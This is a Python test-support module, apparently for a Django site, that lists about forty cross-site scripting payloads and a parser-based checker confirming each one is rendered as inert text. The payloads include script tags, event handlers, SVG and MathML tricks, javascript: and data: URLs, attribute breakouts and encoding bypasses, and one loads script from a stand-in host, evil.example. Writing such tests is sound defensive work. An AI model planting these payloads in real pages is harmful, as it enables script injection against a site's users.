"""Markup that tries to become live on someone else's page, and the check that it did not.

Every payload carries the marker XSS where its markup would act (a handler, a URL, a script's
text, an attribute it breaks out into), so `live_markup(html)` can tell the page's own markup
from markup a payload created: an on* handler, a script-bearing URL, a raw-text element
(script, style…) or an attribute holding the marker is live; the marker as text is fine.

The payloads are written for fields that keep what was typed (names are NFC-normalised and
their inner whitespace collapsed, which none of these rely on). NUL is the exception: the
database refuses it in text, so it is tried on the doors that take typing (forms) and on the
renderers directly, not stored.
"""

import re
from dataclasses import dataclass
from html.parser import HTMLParser

MARKER = "XSS"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    # What a reader must see on the page, as text (None: the payload is mostly markup that a
    # sanitiser may drop, e.g. in rich text; the visible part is checked where text is kept).
    visible: str | None = None
    # Where, pasted raw into a page, it becomes live (tests/security/test_payloads.py proves
    # each is caught by live_markup there); None for those that are text even raw and aim at
    # a decoder or a sanitiser that strips once (their check is `visible`).
    context: str | None = "<p>{}</p>"

    def __str__(self):  # pytest ids
        return self.name


def _p(name, text, visible=None, context="<p>{}</p>"):
    return Payload(name, text, visible, context)


PAYLOADS = [
    # Script tags, plain and bent.
    _p("script", "<script>alert('XSS')</script>", "<script>alert('XSS')</script>"),
    _p("script-src", "<script src=//evil.example/XSS.js></script>"),
    _p("script-case", "<ScRiPt>alert('XSS')</sCrIpT>"),
    _p("script-nested", "<scr<script>ipt>alert('XSS')</scr</script>ipt>", context=None),
    _p("script-unclosed", "<script>alert('XSS')"),
    # Event handlers.
    _p("img-onerror", "<img src=x onerror=alert('XSS')>", "<img src=x onerror=alert('XSS')>"),
    _p("img-slash", "<img/src/onerror=alert('XSS')>"),
    _p("body-onload", "<body onload=alert('XSS')>"),
    _p("details-ontoggle", "<details open ontoggle=alert('XSS')>"),
    _p("input-autofocus", "<input autofocus onfocus=alert('XSS')>"),
    _p("broken-tag", "<img src=\"x\" onerror=\"alert('XSS')\"", None),
    # SVG and MathML.
    _p("svg-onload", "<svg onload=alert('XSS')>"),
    _p("svg-script", "<svg><script>alert('XSS')</script></svg>"),
    _p("svg-animate", "<svg><animate onbegin=alert('XSS') attributeName=x dur=1s>"),
    _p("mathml-mtext",
       "<math><mtext><table><mglyph><style><img src=x onerror=alert('XSS')>"),
    _p("mathml-annotation-xml",
       "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert('XSS')>"
       "</annotation-xml></math>"),
    _p("mathml-maction",
       "<math><maction actiontype=statusline xlink:href=\"javascript:alert('XSS')\">x</maction>"
       "</math>"),
    # URLs that run script.
    _p("javascript-href", "<a href=\"javascript:alert('XSS')\">bấm vào đây</a>"),
    _p("javascript-entities",
       "<a href=\"&#106;avascript:alert('XSS')\">x</a>"
       "<a href=\"java&#x09;script:alert('XSS')\">y</a>"),
    _p("data-html",
       "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4=\">XSS</a>"
       "<iframe src=\"data:text/html,<script>alert('XSS')</script>\"></iframe>"),
    _p("vbscript", "<a href=\"vbscript:msgbox('XSS')\">x</a>"),
    _p("meta-refresh", "<meta http-equiv=refresh content=\"0;url=javascript:alert('XSS')\">"),
    _p("form-action", "<form action=\"javascript:alert('XSS')\"><button>XSS</button></form>"),
    # CSS.
    _p("style-expression", "<div style=\"width: expression(alert('XSS'))\">x</div>"),
    _p("style-url", "<p style=\"background:url(javascript:alert('XSS'))\">x</p>"),
    _p("style-tag", "<style>@import 'javascript:alert(\"XSS\")';</style>"),
    # Breaking out of the element or the attribute around the field.
    _p("textarea-breakout", "</textarea><script>alert('XSS')</script>"),
    _p("title-breakout", "</title><script>alert('XSS')</script>"),
    _p("attribute-double", "\" onmouseover=\"alert('XSS')\" data-x=\"",
       "\" onmouseover=\"alert('XSS')\" data-x=\"", context='<input value="{}">'),
    _p("attribute-single", "' onmouseover='alert(`XSS`)' x='", context="<input value='{}'>"),
    _p("attribute-unquoted", "x autofocus onfocus=alert('XSS') ", context="<input value={}>"),
    _p("comment-breakout", "--><script>alert('XSS')</script><!--"),
    # Unicode tricks.
    _p("fullwidth", "＜script＞alert('XSS')＜/script＞", "＜script＞alert('XSS')＜/script＞",
       context=None),
    # (inert raw: a zero-width space ends the scheme; it aims at a filter that drops
    # invisible characters after checking)
    _p("zero-width", "<a href=\"java\u200bscript:alert('XSS')\">x</a>",
       "<a href=\"java\u200bscript:alert('XSS')\">x</a>", context=None),
    _p("rtl-override", "\u202e<img src=x onerror=alert('XSS')>\u202c"),
    _p("entities", "&lt;script&gt;alert('XSS')&lt;/script&gt;",
       "&lt;script&gt;alert('XSS')&lt;/script&gt;", context=None),
    _p("double-encoded", "&amp;lt;img src=x onerror=alert('XSS')&amp;gt;",
       "&amp;lt;img src=x onerror=alert('XSS')&amp;gt;", context=None),
    # Template injection: Django must print these, never evaluate them.
    _p("template-variable", "{{ 7*7 }} {{ request.user.password }} XSS", "{{ 7*7 }}",
       context=None),
    _p("template-tag", "{% debug %}{% load static %} XSS", "{% debug %}", context=None),
]

# Not stored (the database refuses NUL in text): the form doors and the renderers.
NUL = _p("nul", "<scr\x00ipt>alert('XSS')</scr\x00ipt><img src=x o\x00nerror=alert('XSS')>")

# Attributes where our templates put text someone typed, escaped: the marker there is text;
# and MathML's colours (\\color{...}), an inert value a browser ignores when it is no colour.
TEXT_ATTRIBUTES = {"value", "title", "alt", "aria-label", "placeholder", "content",
                   "mathcolor", "mathbackground"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc",
                  "poster", "background"}
# The raw-text elements: whatever is inside runs or styles.
RAW_TEXT = {"script", "style", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext"}
# Elements that load or run what their attributes name.
LOADING = {"script", "iframe", "frame", "object", "embed", "link", "base", "meta", "form"}
# The site's own handlers (templates/base.html's language switcher), known by their text.
OWN_HANDLERS = {("select", "onchange", "this.form.submit()")}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:text/html", "livescript:")


def _scheme_of(url: str) -> str:
    """The URL as a browser reads its scheme (WHATWG URL): leading controls and spaces
    stripped, tabs and newlines removed anywhere."""
    return url.lstrip("".join(map(chr, range(33)))).translate({9: None, 10: None, 13: None}).lower()


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._raw: list[str] = []

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") and (tag, name, value) not in OWN_HANDLERS:
                self.problems.append(f"<{tag} {name}={value!r}>")
            elif name in URL_ATTRIBUTES:  # a relative URL holding the marker is inert
                if _scheme_of(value).startswith(BAD_SCHEMES):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and re.search(r"expression\(|javascript:", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>")
            elif MARKER.lower() in (name + value).lower() and name not in TEXT_ATTRIBUTES \
                    and not name.startswith("data-"):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in RAW_TEXT:
            self._raw.append(tag)
        if tag in LOADING and MARKER.lower() in str(attrs).lower():
            self.problems.append(f"<{tag} {attrs!r}>")

    handle_startendtag = handle_starttag

    def handle_endtag(self, tag):
        if self._raw and self._raw[-1] == tag:
            self._raw.pop()

    def handle_data(self, data):
        if self._raw and MARKER.lower() in data.lower():
            self.problems.append(f"<{self._raw[-1]}>{data[:60]!r}")


def live_markup(html: str) -> list[str]:
    """What in `html` a payload made live: [] when every payload stayed text."""
    collector = _Collector()
    collector.feed(html)
    collector.close()
    if collector._raw and MARKER.lower() in collector.rawdata.lower():  # never closed
        collector.problems.append(f"<{collector._raw[-1]}>{collector.rawdata[:60]!r}")
    return collector.problems


class _Text(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)


def text_of(html: str) -> str:
    """The page's text as a reader sees it (entities decoded), whitespace collapsed."""
    parser = _Text()
    parser.feed(html)
    parser.close()
    return " ".join("".join(parser.parts).split())


def assert_shown_as_text(html: str, payload: Payload) -> None:
    """No live markup from `payload` in `html`, and its visible part there as text."""
    assert live_markup(html) == [], payload.name
    if payload.visible is not None:
        assert " ".join(payload.visible.split()) in text_of(html), payload.name
